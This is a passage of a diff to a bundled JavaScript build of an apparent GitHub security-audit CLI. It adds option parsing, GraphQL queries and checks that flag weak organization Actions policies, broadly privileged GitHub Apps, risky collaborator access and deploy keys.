@@ -4423,7 +4423,7 @@ __exportStar(__nccwpck_require__(7543), exports);
 
 /***/ }),
 
-/***/ 2635:
+/***/ 5016:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
@@ -4488,7 +4488,7 @@ Object.defineProperty(exports, "__esModule", ({ value: true }));
 exports.toSignedEntity = toSignedEntity;
 exports.signatureContent = signatureContent;
 const core_1 = __nccwpck_require__(3917);
-const dsse_1 = __nccwpck_require__(2635);
+const dsse_1 = __nccwpck_require__(5016);
 const message_1 = __nccwpck_require__(6531);
 function toSignedEntity(bundle, artifact) {
     const { tlogEntries, timestampVerificationData } = bundle.verificationMaterial;
@@ -16296,10 +16296,12 @@ module.exports = Queue;
 __nccwpck_require__.a(module, async (__webpack_handle_async_dependencies__, __webpack_async_result__) => { try {
 /* harmony import */ var node_util__WEBPACK_IMPORTED_MODULE_0__ = __nccwpck_require__(7975);
 /* harmony import */ var node_util__WEBPACK_IMPORTED_MODULE_0___default = /*#__PURE__*/__nccwpck_require__.n(node_util__WEBPACK_IMPORTED_MODULE_0__);
-/* harmony import */ var _main__WEBPACK_IMPORTED_MODULE_1__ = __nccwpck_require__(8248);
+/* harmony import */ var _security_actions_core__WEBPACK_IMPORTED_MODULE_1__ = __nccwpck_require__(9752);
+/* harmony import */ var _main__WEBPACK_IMPORTED_MODULE_2__ = __nccwpck_require__(2635);
 // Entry point of the CLI bundle: the real streams, colour as Node decides it
 // for each stream (a terminal, NO_COLOR, FORCE_COLOR), and a status line when
 // stderr is a terminal.
+
 
 
 const STYLE = {
@@ -16317,7 +16319,7 @@ const STYLE = {
 };
 const paint = (role, text) => (0,node_util__WEBPACK_IMPORTED_MODULE_0__.styleText)(STYLE[role], text, { stream: process.stdout });
 try {
-    process.exitCode = await (0,_main__WEBPACK_IMPORTED_MODULE_1__/* .main */ .i)(process.argv.slice(2), {
+    process.exitCode = await (0,_main__WEBPACK_IMPORTED_MODULE_2__/* .main */ .i)(process.argv.slice(2), {
         out: (s) => process.stdout.write(s),
         err: (s) => process.stderr.write(`${s}\n`),
         env: process.env,
@@ -16332,7 +16334,7 @@ try {
 }
 catch (e) {
     // main() turns every error into a line; this is the last guard, still without a stack trace.
-    process.stderr.write(`sp-security: internal error: ${e instanceof Error ? e.message.split('\n')[0] : String(e)}\n`);
+    process.stderr.write(`sp-security: internal error: ${(0,_security_actions_core__WEBPACK_IMPORTED_MODULE_1__/* .redact */ .E$)(e instanceof Error ? e.message.split('\n')[0] : String(e))}\n`);
     process.exitCode = 2;
 }
 
@@ -16341,7 +16343,7 @@ __webpack_async_result__();
 
 /***/ }),
 
-/***/ 8248:
+/***/ 2635:
 /***/ ((__unused_webpack_module, __webpack_exports__, __nccwpck_require__) => {
 
 
@@ -16349,6 +16351,8674 @@ __webpack_async_result__();
 __nccwpck_require__.d(__webpack_exports__, {
   i: () => (/* binding */ main)
 });
+
+// EXTERNAL MODULE: ./packages/core/src/index.ts + 43 modules
+var src = __nccwpck_require__(9752);
+// EXTERNAL MODULE: external "node:util"
+var external_node_util_ = __nccwpck_require__(7975);
+;// CONCATENATED MODULE: ./packages/cli/src/commands/types.ts
+/** Exit statuses, documented in the README and every `--help`. */
+const EXIT = { ok: 0, findings: 1, usage: 2 };
+/** A usage or input error: one line, exit status 2. */
+class UsageError extends Error {
+    name = 'UsageError';
+}
+
+;// CONCATENATED MODULE: ./packages/cli/src/options.ts
+// Flags: the sets commands share, parsing with node:util's parseArgs (plus
+// what it leaves to us: `--switch=true|false`, choices, required flags,
+// one-line messages), and `--help` with aligned columns.
+
+
+
+const FORMATS = ['plain', 'json', 'sarif', 'github'];
+const HELP_OPTION = { help: { type: 'boolean', short: 'h', help: 'show this help' } };
+const REPO_OPTION = {
+    repo: { type: 'string', value: 'PATH', help: 'the checkout to scan (default: the current directory)' }
+};
+/** The options of every command that reports findings. */
+const REPORT_OPTIONS = {
+    config: {
+        type: 'string',
+        value: 'FILE',
+        help: 'config file, relative to the checkout (default: .github/security-actions.yml)'
+    },
+    'fail-on': {
+        type: 'string',
+        value: 'LEVEL',
+        choices: src/* FAIL_ON */.d$,
+        help: `exit 1 when a finding at or above LEVEL stands: ${src/* FAIL_ON */.d$.join('|')} (default: high)`
+    },
+    format: {
+        type: 'string',
+        value: 'FORMAT',
+        choices: FORMATS,
+        help: 'what stdout gets: plain (default), json (the report), sarif (SARIF 2.1.0), github (workflow annotations)'
+    },
+    sarif: { type: 'string', value: 'FILE', help: 'also write SARIF 2.1.0 to FILE' },
+    json: { type: 'string', value: 'FILE', help: 'also write the JSON report to FILE' },
+    verbose: { type: 'boolean', short: 'v', help: 'print every progress message to stderr' },
+    quiet: { type: 'boolean', short: 'q', help: 'print no progress to stderr' },
+    ...HELP_OPTION
+};
+const EXIT_HELP = 'Exit status: 0 nothing at or above --fail-on; 1 findings (or checks that could not run, where they count) at or above --fail-on; 2 a usage or input error (a bad flag, a missing path, an unreadable config).';
+/**
+ * Parses a command's arguments. Boolean flags also take `--no-NAME` and
+ * `--NAME=true|false`; anything else that does not fit is a UsageError whose
+ * message names the flag.
+ */
+function parseOptions(cmd, args, env = {}) {
+    const booleans = Object.entries(cmd.options).filter(([, o]) => o.type === 'boolean');
+    const normalised = args.map((a) => {
+        const m = /^--([a-z0-9-]+)=(.*)$/s.exec(a);
+        if (!m || !booleans.some(([n]) => n === m[1]))
+            return a;
+        if (/^(true|yes|1)$/i.test(m[2]))
+            return `--${m[1]}`;
+        if (/^(false|no|0)$/i.test(m[2]))
+            return `--no-${m[1]}`;
+        throw new UsageError(`--${m[1]} takes true or false; got '${m[2]}'`);
+    });
+    const options = Object.fromEntries(Object.entries(cmd.options).map(([n, o]) => [n, { type: o.type, ...(o.short ? { short: o.short } : {}) }]));
+    const parsed = (() => {
+        try {
+            return (0,external_node_util_.parseArgs)({
+                args: normalised,
+                options,
+                allowPositionals: true,
+                allowNegative: true,
+                strict: true,
+                tokens: true
+            });
+        }
+        catch (e) {
+            throw new UsageError(describeParseError(e, cmd.options));
+        }
+    })();
+    if (!cmd.positionals && parsed.positionals.length) {
+        const at = parsed.tokens.findIndex((t) => t.kind === 'positional');
+        const before = parsed.tokens[at - 1];
+        if (before?.kind === 'option' && cmd.options[before.name]?.type === 'boolean')
+            throw new UsageError(`--${before.name} is a switch and takes no value; got '${parsed.positionals[0]}' (write --${before.name} or --no-${before.name})`);
+        throw new UsageError(`unexpected argument '${parsed.positionals[0]}'`);
+    }
+    const values = { ...parsed.values, _: parsed.positionals };
+    if (values.help)
+        return values;
+    for (const [name, o] of Object.entries(cmd.options)) {
+        const v = values[name];
+        if (typeof v === 'string' && o.choices) {
+            const hit = o.choices.find((c) => c.toLowerCase() === v.toLowerCase());
+            if (!hit)
+                throw new UsageError(`--${name} must be one of ${o.choices.join('|')}; got '${v}'`);
+            values[name] = hit;
+        }
+        if (o.required && (v === undefined || v === '') && !(o.env && env[o.env]))
+            throw new UsageError(`--${name}${o.env ? ` (or ${o.env})` : ''} is required`);
+    }
+    return values;
+}
+function describeParseError(e, options) {
+    const flag = /'(-[^']*)'/.exec(e.message)?.[1] ?? '';
+    switch (e.code) {
+        case 'ERR_PARSE_ARGS_UNKNOWN_OPTION': {
+            const name = flag.replace(/^-+(no-)?/, '').replace(/=.*$/, '');
+            const isString = options[name]?.type === 'string';
+            return isString ? `${flag} is not a switch: give --${name} a value` : `unknown option ${flag}`;
+        }
+        case 'ERR_PARSE_ARGS_INVALID_OPTION_VALUE':
+            return /argument missing/.test(e.message)
+                ? `${flag.replace(/ .*$/, '')} needs a value`
+                : `${flag.replace(/ .*$/, '')} takes no value`;
+        default:
+            return e.message.split('\n')[0];
+    }
+}
+/** `  -h, --help         text`, the text column aligned, long specs on a line of their own. */
+function formatOptions(options, width = 100) {
+    const specs = Object.entries(options).map(([name, o]) => [spec(name, o), o.help]);
+    const column = Math.min(30, Math.max(...specs.map(([s]) => s.length)) + 4);
+    return specs
+        .map(([s, help]) => {
+        const lines = wrap(help, width - column);
+        const first = s.length + 2 <= column - 2
+            ? `${`  ${s}`.padEnd(column)}${lines[0]}`
+            : `  ${s}\n${' '.repeat(column)}${lines[0]}`;
+        return [first, ...lines.slice(1).map((l) => ' '.repeat(column) + l)].join('\n');
+    })
+        .join('\n');
+}
+function spec(name, o) {
+    return `${o.short ? `-${o.short}, ` : '    '}--${name}${o.type === 'string' ? ` ${o.value ?? 'VALUE'}` : ''}`;
+}
+/** Words to lines of at most `width` characters (a longer word gets a line of its own). */
+function wrap(text, width) {
+    const lines = [];
+    let line = '';
+    for (const word of text.split(/\s+/).filter(Boolean)) {
+        if (line && line.length + 1 + word.length > width) {
+            lines.push(line);
+            line = word;
+        }
+        else
+            line = line ? `${line} ${word}` : word;
+    }
+    return [...lines, line];
+}
+
+// EXTERNAL MODULE: external "node:fs/promises"
+var promises_ = __nccwpck_require__(1455);
+// EXTERNAL MODULE: external "node:path"
+var external_node_path_ = __nccwpck_require__(6760);
+;// CONCATENATED MODULE: ./actions/access-audit/src/queries.ts
+// The GraphQL queries the audit sends. Repository data comes in batches of
+// aliased `repository(...)` fields so that a failed batch names exactly the
+// repositories it leaves unaudited; nested `first` values are kept small to
+// bound the node count (GitHub refuses more than 500,000 nodes per call).
+/**
+ * The repository fields, by the name a GraphQL error path gives them. A field
+ * the token cannot read makes GitHub null the whole repository (the
+ * connections are non-null), so a failing field is dropped from later queries
+ * and reported as not checked instead.
+ */
+const REPO_FIELDS = {
+    base: 'name isArchived isFork isPrivate defaultBranchRef { name }',
+    branchProtectionRules: 'branchProtectionRules(first: 30) { nodes { pattern requiresApprovingReviews requiredApprovingReviewCount allowsForcePushes allowsDeletions requiresCommitSignatures } }',
+    rulesets: `rulesets(first: 30, includeParents: true) {
+      nodes {
+        name enforcement target
+        conditions { refName { include exclude } }
+        rules(first: 30) { nodes { type parameters { ... on PullRequestParameters { requiredApprovingReviewCount } } } }
+      }
+    }`,
+    releaseBranches: 'releaseBranches: refs(refPrefix: "refs/heads/", query: "release", first: 20) { nodes { name } }',
+    environments: `environments(first: 10) {
+      nodes {
+        name
+        protectionRules(first: 3) {
+          nodes {
+            type preventSelfReview
+            reviewers(first: 6) { nodes { __typename ... on User { login } ... on Team { slug } } }
+          }
+        }
+      }
+    }`,
+    collaborators: 'collaborators(first: 100) { edges { permission node { login } } }',
+    outside: 'outside: collaborators(affiliation: OUTSIDE, first: 100) { edges { permission node { login } } }',
+    deployKeys: 'deployKeys(first: 20) { nodes { title readOnly createdAt } }',
+    pyproject: 'pyproject: object(expression: "HEAD:pyproject.toml") { ... on Blob { text } }',
+    sec1: 'sec1: object(expression: "HEAD:SECURITY.md") { __typename }',
+    sec2: 'sec2: object(expression: "HEAD:.github/SECURITY.md") { __typename }',
+    sec3: 'sec3: object(expression: "HEAD:docs/SECURITY.md") { __typename }',
+    vulnerabilityAlerts: 'vulnerabilityAlerts: hasVulnerabilityAlertsEnabled',
+    dependabot: 'dependabot: object(expression: "HEAD:.github/dependabot.yml") { ... on Blob { text } }',
+    dependabot2: 'dependabot2: object(expression: "HEAD:.github/dependabot.yaml") { ... on Blob { text } }',
+    // Who committed to the default branch lately: evidence of activity at no extra request.
+    activity: 'activity: defaultBranchRef { target { ... on Commit { history(first: 50, since: $since) { nodes { author { user { login } } committer { user { login } } } } } } }',
+    // A list, not a connection: the workflow files add no rate-limit cost and no request.
+    workflows: 'workflows: object(expression: "HEAD:.github/workflows") { ... on Tree { entries { name type object { ... on Blob { text byteSize isBinary isTruncated } } } } }'
+};
+/** One query for `n` repositories, variables `$org`, `$n0 … $n{n-1}` and (with the activity field) `$since`. */
+function repoBatchQuery(n, omit = new Set()) {
+    const vars = [
+        ...Array.from({ length: n }, (_, i) => `$n${i}: String!`),
+        ...(omit.has('activity') ? [] : ['$since: GitTimestamp!'])
+    ].join(', ');
+    const body = Object.entries(REPO_FIELDS)
+        .filter(([k]) => !omit.has(k))
+        .map(([, f]) => `    ${f}`)
+        .join('\n');
+    const fields = Array.from({ length: n }, (_, i) => `  r${i}: repository(owner: $org, name: $n${i}) {\n${body}\n  }`).join('\n');
+    return `query($org: String!, ${vars}) {\n${fields}\n}`;
+}
+/**
+ * Team members, once per organization rather than under every environment
+ * reviewer: GitHub's cost formula multiplies nested connections, and members
+ * nested under reviewers would cost more than all other repository fields.
+ * Two people are enough to decide "at least two reviewers".
+ */
+const TEAMS = `query($org: String!, $after: String) {
+  organization(login: $org) {
+    teams(first: 100, after: $after) {
+      pageInfo { hasNextPage endCursor }
+      nodes { slug members(first: 2) { nodes { login } } }
+    }
+  }
+}`;
+const ORG_POLICY = `query($org: String!) {
+  repository(owner: $org, name: ".github") { object(expression: "HEAD:SECURITY.md") { __typename } }
+}`;
+/**
+ * The organization audit log (GitHub Enterprise Cloud only): the latest entry
+ * of each of `n` people since `$from`, variables `$org` and `$q0 … $q{n-1}`
+ * (each `actor:<login> created:>=<date>`).
+ */
+function auditLogQuery(n) {
+    const vars = Array.from({ length: n }, (_, i) => `$q${i}: String!`).join(', ');
+    const fields = Array.from({ length: n }, (_, i) => `    a${i}: auditLog(first: 1, query: $q${i}) { nodes { ... on AuditEntry { actorLogin createdAt } } }`).join('\n');
+    return `query($org: String!, ${vars}) {\n  organization(login: $org) {\n${fields}\n  }\n}`;
+}
+/** Contributions of `n` people since `$from`, variables `$from` and `$u0 … $u{n-1}`. */
+function activityQuery(n) {
+    const vars = Array.from({ length: n }, (_, i) => `$u${i}: String!`).join(', ');
+    const fields = Array.from({ length: n }, (_, i) => `  u${i}: user(login: $u${i}) { login contributionsCollection(from: $from, to: $to) { totalCommitContributions totalIssueContributions totalPullRequestContributions totalPullRequestReviewContributions restrictedContributionsCount } }`).join('\n');
+    return `query($from: DateTime!, $to: DateTime!, ${vars}) {\n${fields}\n}`;
+}
+
+;// CONCATENATED MODULE: ./actions/access-audit/src/batch.ts
+// The GraphQL reads of the audit: repositories in batches of aliased
+// `repository(...)` fields (a failed batch names exactly the repositories it
+// leaves unaudited), and the organization-wide answers every repository
+// check shares (teams, the org's SECURITY.md).
+
+function inBatches(items, size) {
+    const out = [];
+    for (let i = 0; i < items.length; i += size)
+        out.push(items.slice(i, i + size));
+    return out;
+}
+/**
+ * One batch of repositories. A field the token cannot read is recorded in
+ * `omitted` (shared by all batches) and the batch asked again without it.
+ * GitHub may name only the first failing field of a repository (a non-null
+ * field's error nulls the whole object), so this repeats while new ones
+ * appear; every field is dropped at most once per run.
+ */
+async function fetchBatch(io, org, batch, omitted, since) {
+    const vars = { org };
+    batch.forEach((n, i) => (vars[`n${i}`] = n));
+    const ask = () => io.graphql(repoBatchQuery(batch.length, new Set(omitted.keys())), omitted.has('activity') ? vars : { ...vars, since });
+    let answer = await ask();
+    for (;;) {
+        const fresh = (answer.errors ?? []).filter((e) => typeof e.path?.[1] === 'string' && REPO_FIELDS[e.path[1]] && !omitted.has(e.path[1]));
+        if (!fresh.length)
+            return answer;
+        for (const e of fresh)
+            omitted.set(e.path[1], e);
+        answer = await ask();
+    }
+}
+/** The `i`th repository of a batch's answer, or why it is missing; `failed` gives the error of a field it lacks. */
+function repositoryOf(answer, i, omitted) {
+    const repo = answer.data?.[`r${i}`];
+    const errs = (answer.errors ?? []).filter((e) => e.path?.[0] === `r${i}`);
+    if (!repo)
+        return { missing: errs[0]?.message ?? (answer.errors?.[0]?.message || 'missing from the answer') };
+    return { repo, failed: (field) => omitted.get(field) ?? errs.find((e) => e.path?.[1] === field) };
+}
+/** Whether the organization's `.github` repository has a SECURITY.md (GitHub shows it on every repository). */
+async function orgSecurityPolicy(io, org) {
+    try {
+        const { data } = await io.graphql(ORG_POLICY, { org });
+        return !!data?.repository?.object;
+    }
+    catch {
+        return undefined;
+    }
+}
+/** Team slug → up to two member logins; undefined when the teams were not readable. */
+async function teamMembers(io, org) {
+    const out = new Map();
+    try {
+        let after = null;
+        do {
+            const { data } = await io.graphql(TEAMS, { org, after });
+            const conn = data?.organization?.teams;
+            if (!conn)
+                return undefined;
+            for (const t of conn.nodes)
+                out.set(t.slug, t.members.nodes.map((m) => m.login));
+            after = conn.pageInfo.hasNextPage ? conn.pageInfo.endCursor : null;
+        } while (after);
+        return out;
+    }
+    catch {
+        return undefined;
+    }
+}
+
+;// CONCATENATED MODULE: ./actions/access-audit/src/checks/actions-policy.ts
+// The organization's Actions policy: the default GITHUB_TOKEN, whether
+// workflows may approve pull requests, which actions may run, SHA pinning, and
+// workflows from fork pull requests (approval, and what they get on private
+// repositories).
+
+const RULES = (0,src/* defineRules */.x0)({
+    actionsTokenWrite: {
+        id: 'org/actions-token-write',
+        title: 'Workflows get a read-write GITHUB_TOKEN by default',
+        severity: 'high',
+        why: 'Every workflow without a `permissions:` block can push code, create releases and edit issues; one injected step is enough.',
+        remediation: 'Organization settings → Actions → General → Workflow permissions: "Read repository contents and packages permissions"; grant write per job.',
+        spec: ['S8-6']
+    },
+    actionsApprovePrs: {
+        id: 'org/actions-can-approve-prs',
+        title: 'GitHub Actions may create and approve pull requests',
+        severity: 'medium',
+        why: 'A workflow token that can approve pull requests satisfies a required review without a human.',
+        remediation: 'Untick "Allow GitHub Actions to create and approve pull requests" in the organization Actions settings.',
+        spec: ['S8-6']
+    },
+    actionsAllAllowed: {
+        id: 'org/actions-all-allowed',
+        title: 'Any action from any owner may run',
+        severity: 'low',
+        why: "Without an allow list, a typo or a compromised third-party action runs with the workflow's token and secrets.",
+        remediation: 'Allow GitHub-owned, verified-creator and a listed set of actions (Actions → General → Policies).',
+        spec: ['S8-7']
+    },
+    actionsShaPinning: {
+        id: 'org/actions-sha-pinning-not-required',
+        title: 'Actions are not required to be pinned to a full commit SHA',
+        severity: 'low',
+        why: 'A tag can be moved to malicious code; only a full SHA pins what runs.',
+        remediation: 'Tick "Require actions to be pinned to a full-length commit SHA" in the organization Actions policy (and pin existing workflows first).',
+        spec: ['S8-9']
+    },
+    forkPrApproval: {
+        id: 'org/fork-pr-approval-weak',
+        title: 'Workflows from fork pull requests run without approval for most outside contributors',
+        severity: 'medium',
+        why: 'With "first-time contributors new to GitHub" only brand-new accounts need approval; anyone with an older account can open a pull request whose workflow runs at once, which is how cache poisoning and self-hosted runner attacks start.',
+        remediation: 'Organization settings → Actions → General → "Approval for running fork pull request workflows from contributors": require approval for all external contributors (or at least first-time contributors).',
+        spec: ['S8-16']
+    },
+    forkPrPrivate: {
+        id: 'org/fork-pr-private-repos',
+        title: 'Fork pull requests on private repositories get secrets or a write token',
+        severity: 'high',
+        why: 'A workflow started by a fork pull request runs code its author wrote; with secrets or a write token it can read the secrets or push to the repository.',
+        remediation: 'Organization settings → Actions → General → "Fork pull request workflows in private repositories": untick "Send write tokens" and "Send secrets and variables", and tick "Require approval for fork pull request workflows".',
+        spec: ['S8-6', 'S8-16']
+    }
+});
+const NEED = 'organization administration: read';
+/** Why an endpoint GitHub added lately could not be read. */
+const newerEndpoint = (e) => e.status === 404
+    ? 'not available on this GitHub (or needs organization administration: read)'
+    : (0,src/* describeApiError */.gg)(e, NEED);
+const actionsPolicy = {
+    id: 'actions-policy',
+    scope: 'org',
+    rules: (0,src/* rulesOf */.fD)(RULES),
+    async run({ io, org, add, skip }) {
+        try {
+            const policy = (await io.request('GET /orgs/{org}/actions/permissions', { org })).data;
+            if (policy.allowed_actions === 'all')
+                add(RULES.actionsAllAllowed, undefined, { message: `${org} lets workflows use any action from any owner.` });
+            if (policy.sha_pinning_required === false)
+                add(RULES.actionsShaPinning, undefined, {
+                    message: `${org} does not require actions pinned to a full commit SHA.`
+                });
+            else if (policy.sha_pinning_required === undefined)
+                skip(RULES.actionsShaPinning.id, 'not checked: GitHub did not return sha_pinning_required', org);
+        }
+        catch (e) {
+            for (const r of [RULES.actionsAllAllowed, RULES.actionsShaPinning])
+                skip(r.id, `not checked: ${(0,src/* describeApiError */.gg)(e, NEED)}`, org);
+        }
+        try {
+            const wf = (await io.request('GET /orgs/{org}/actions/permissions/workflow', { org })).data;
+            if (wf.default_workflow_permissions === 'write')
+                add(RULES.actionsTokenWrite, undefined, {
+                    message: `${org} gives workflows a read-write GITHUB_TOKEN by default.`
+                });
+            if (wf.can_approve_pull_request_reviews)
+                add(RULES.actionsApprovePrs, undefined, {
+                    message: `${org} lets GitHub Actions create and approve pull requests.`
+                });
+        }
+        catch (e) {
+            for (const r of [RULES.actionsTokenWrite, RULES.actionsApprovePrs])
+                skip(r.id, `not checked: ${(0,src/* describeApiError */.gg)(e, NEED)}`, org);
+        }
+        try {
+            const { approval_policy: policy } = (await io.request('GET /orgs/{org}/actions/permissions/fork-pr-contributor-approval', { org })).data;
+            if (policy === 'first_time_contributors_new_to_github') {
+                add(RULES.forkPrApproval, undefined, {
+                    message: `${org} requires approval of fork pull request workflows only for first-time contributors who are new to GitHub.`,
+                    properties: { approval_policy: policy }
+                });
+            }
+            else if (policy !== 'first_time_contributors' && policy !== 'all_external_contributors') {
+                skip(RULES.forkPrApproval.id, `not checked: GitHub returned an unknown approval_policy (${String(policy)})`, org);
+            }
+        }
+        catch (e) {
+            // GitHub Enterprise Server before 3.19 has no such endpoint.
+            skip(RULES.forkPrApproval.id, `not checked: ${newerEndpoint(e)}`, org);
+        }
+        try {
+            const p = (await io.request('GET /orgs/{org}/actions/permissions/fork-pr-workflows-private-repos', { org }))
+                .data;
+            if (p.run_workflows_from_fork_pull_requests) {
+                const given = [
+                    p.send_secrets_and_variables && 'secrets and variables',
+                    p.send_write_tokens_to_workflows && 'a write token'
+                ].filter(Boolean);
+                if (given.length) {
+                    add(RULES.forkPrPrivate, undefined, {
+                        message: `${org} sends ${given.join(' and ')} to workflows of fork pull requests on private repositories.`,
+                        key: 'secrets',
+                        properties: p
+                    });
+                }
+                else if (!p.require_approval_for_fork_pr_workflows) {
+                    add(RULES.forkPrPrivate, undefined, {
+                        severity: 'medium',
+                        message: `${org} runs workflows of fork pull requests on private repositories without approval.`,
+                        key: 'approval',
+                        properties: p
+                    });
+                }
+            }
+        }
+        catch (e) {
+            skip(RULES.forkPrPrivate.id, `not checked: ${newerEndpoint(e)}`, org);
+        }
+    }
+};
+
+;// CONCATENATED MODULE: ./actions/access-audit/src/rest.ts
+/**
+ * Every item of a paginated REST list; `key` names the array in wrapped
+ * answers (`{ total_count, installations }`). Items are pushed into `out` as
+ * pages arrive, so a caller keeps what was listed before a failure.
+ */
+async function listAll(io, route, params, key, out = []) {
+    for (let page = 1;; page++) {
+        const data = (await io.request(route, { ...params, per_page: 100, page })).data;
+        const items = key ? data[key] : data;
+        if (!Array.isArray(items))
+            throw new Error(`GitHub answered ${route} without ${key ?? 'a list'} (truncated answer?)`);
+        out.push(...items);
+        if (items.length < 100)
+            return out;
+    }
+}
+
+;// CONCATENATED MODULE: ./actions/access-audit/src/checks/apps.ts
+// GitHub Apps installed on every repository with write access to code,
+// workflows, settings or secrets; every App is listed in a note, the SPEC 6
+// inventory.
+
+
+const apps_RULES = (0,src/* defineRules */.x0)({
+    appBroadWrite: {
+        id: 'org/app-broad-write',
+        title: 'GitHub App installed on every repository with write access to code or settings',
+        // Low when contents is the only write it has.
+        severity: 'medium',
+        why: 'An App installed on all repositories with write to contents, workflows, administration or secrets can change every project at once; a compromise of the App vendor becomes a compromise of the organization.',
+        remediation: 'Limit the installation to the repositories that need it (Organization settings → GitHub Apps → Configure → Only select repositories), or ask the vendor for narrower permissions; list approved Apps in `access-audit.allowed-apps`.',
+        spec: ['S6-2']
+    }
+});
+/** App permissions whose write access changes code, workflows, settings or secrets. */
+const POWERFUL = [
+    'administration',
+    'contents',
+    'workflows',
+    'secrets',
+    'actions',
+    'environments',
+    'organization_administration',
+    'organization_secrets',
+    'members'
+];
+const apps = {
+    id: 'apps',
+    scope: 'org',
+    rules: (0,src/* rulesOf */.fD)(apps_RULES),
+    async run({ io, org, config, add, skip, notes }) {
+        let list;
+        try {
+            list = await listAll(io, 'GET /orgs/{org}/installations', { org }, 'installations');
+        }
+        catch (e) {
+            return skip(apps_RULES.appBroadWrite.id, `not checked: ${(0,src/* describeApiError */.gg)(e, 'organization administration: read')}`, org);
+        }
+        const active = list.filter((i) => !i.suspended_at);
+        if (active.length)
+            notes.push(`GitHub Apps installed in ${org}: ${[...active]
+                .sort((a, b) => a.app_slug.localeCompare(b.app_slug))
+                .map((i) => `${i.app_slug} (${i.repository_selection === 'all' ? 'all repositories' : 'selected repositories'})`)
+                .join(', ')}.`);
+        for (const i of active) {
+            if (i.repository_selection !== 'all' || config.allowedApps.includes(i.app_slug.toLowerCase()))
+                continue;
+            const writes = POWERFUL.filter((p) => i.permissions?.[p] === 'write' || i.permissions?.[p] === 'admin');
+            if (!writes.length)
+                continue;
+            add(apps_RULES.appBroadWrite, undefined, {
+                severity: writes.some((w) => w !== 'contents') ? 'medium' : 'low',
+                message: `GitHub App ${i.app_slug} is installed on all repositories of ${org} with write access to ${writes.join(', ')}.`,
+                key: i.app_slug,
+                properties: { app: i.app_slug, writes }
+            });
+        }
+    }
+};
+
+;// CONCATENATED MODULE: ./actions/access-audit/src/logins.ts
+// Who counts as a person: GitHub Apps act as `name[bot]` accounts.
+const isHuman = (login) => !/\[bot\]$/i.test(login);
+
+;// CONCATENATED MODULE: ./actions/access-audit/src/checks/collaborators.ts
+// Who holds a repository (SPEC 6): at least two people with admin or
+// maintain, not too many admins, and outside collaborators with write. The
+// people with write or more go into the access snapshot, and those with admin
+// or maintain to the inactivity check.
+
+
+const collaborators_RULES = (0,src/* defineRules */.x0)({
+    singleAdmin: {
+        id: 'repo/single-maintainer',
+        title: 'Fewer than two people can administer the repository',
+        severity: 'medium',
+        why: 'If the only admin disappears, nobody can rotate secrets, change protection or respond to an incident.',
+        remediation: 'Give a second maintainer admin or maintain (preferably through a team) and document who holds it.',
+        spec: ['S6-6']
+    },
+    tooManyAdmins: {
+        id: 'repo/too-many-admins',
+        title: 'Many people hold admin on the repository',
+        severity: 'low',
+        why: 'Admin can disable protection and read environment settings; least privilege keeps it to the few who need it.',
+        remediation: 'Lower admins who do not manage settings to maintain or write.',
+        spec: ['S6-2']
+    },
+    outsideWrite: {
+        id: 'repo/outside-collaborator-write',
+        title: 'Outside collaborator with write access or more',
+        severity: 'medium',
+        why: "Outside collaborators are not covered by the organization's membership review and 2FA requirement history.",
+        remediation: 'Confirm the person still needs write access; otherwise lower them to read or remove them (SPEC 6 review).',
+        spec: ['S6-2', 'S6-3']
+    }
+});
+const ELEVATED = new Set(['ADMIN', 'MAINTAIN']);
+const WRITE_OR_MORE = new Set(['WRITE', 'MAINTAIN', 'ADMIN']);
+const collaborators = {
+    id: 'collaborators',
+    scope: 'repo',
+    rules: (0,src/* rulesOf */.fD)(collaborators_RULES),
+    run({ name, repo, config, failed, unreadable, gathered, add, skip }) {
+        if (failed('collaborators') || !repo.collaborators) {
+            const why = unreadable('collaborators', 'metadata: read', 'not checked: collaborators not returned');
+            skip(collaborators_RULES.singleAdmin.id, why, name);
+        }
+        else {
+            const edges = repo.collaborators.edges ?? [];
+            const humans = edges.flatMap((e) => e.node && isHuman(e.node.login) ? [{ login: e.node.login, permission: e.permission }] : []);
+            const admins = humans.filter((e) => e.permission === 'ADMIN').map((e) => e.login);
+            const keyHolders = humans.filter((e) => ELEVATED.has(e.permission)).map((e) => e.login);
+            for (const l of keyHolders)
+                gathered.elevated.set(l, [...(gathered.elevated.get(l) ?? []), name]);
+            (gathered.access[name] ??= {}).people = humans
+                .filter((e) => WRITE_OR_MORE.has(e.permission))
+                .map((e) => e.login)
+                .sort();
+            if (keyHolders.length < 2) {
+                add(collaborators_RULES.singleAdmin, name, {
+                    message: `${name}: ${keyHolders.length === 0 ? 'nobody' : `only ${keyHolders[0]}`} holds admin or maintain.`,
+                    properties: { admins: keyHolders }
+                });
+            }
+            else if (admins.length > config.maxAdmins) {
+                add(collaborators_RULES.tooManyAdmins, name, {
+                    message: `${name}: ${admins.length} people hold admin (more than ${config.maxAdmins}).`,
+                    properties: { admins }
+                });
+            }
+        }
+        if (failed('outside') || !repo.outside)
+            skip(collaborators_RULES.outsideWrite.id, unreadable('outside', 'metadata: read'), name);
+        else {
+            for (const e of repo.outside.edges ?? []) {
+                if (e.node && WRITE_OR_MORE.has(e.permission)) {
+                    add(collaborators_RULES.outsideWrite, name, {
+                        message: `${name}: outside collaborator ${e.node.login} has ${e.permission.toLowerCase()} access.`,
+                        key: e.node.login,
+                        properties: { login: e.node.login, permission: e.permission }
+                    });
+                }
+            }
+        }
+    }
+};
+
+;// CONCATENATED MODULE: ./actions/access-audit/src/checks/deploy-keys.ts
+// Deploy keys (SPEC 6): never-expiring credentials tied to no person; keys
+// that can push, and read-only ones older than a year. The keys go into the
+// access snapshot for the rotation check.
+
+const deploy_keys_RULES = (0,src/* defineRules */.x0)({
+    deployKeyWrite: {
+        id: 'repo/deploy-key-write',
+        title: 'Deploy key with write access',
+        severity: 'medium',
+        why: 'A write deploy key is a never-expiring credential that can push to any branch it is not blocked from; it is not tied to a person.',
+        remediation: 'Make the key read-only, replace it with a GitHub App or OIDC, or delete it if unused.',
+        spec: ['S6-4']
+    },
+    deployKeyOld: {
+        id: 'repo/deploy-key-old',
+        title: 'Deploy key older than a year',
+        severity: 'low',
+        why: 'Deploy keys never expire; SPEC 6 asks credentials to be replaced after a reasonable time, typically a year, and an old key is often one nobody remembers.',
+        remediation: 'Replace the key (or delete it if unused) and note who holds the new one.',
+        spec: ['S6-4']
+    }
+});
+const deployKeys = {
+    id: 'deploy-keys',
+    scope: 'repo',
+    rules: (0,src/* rulesOf */.fD)(deploy_keys_RULES),
+    run({ name, repo, now, failed, unreadable, gathered, add, skip }) {
+        if (failed('deployKeys') || !repo.deployKeys)
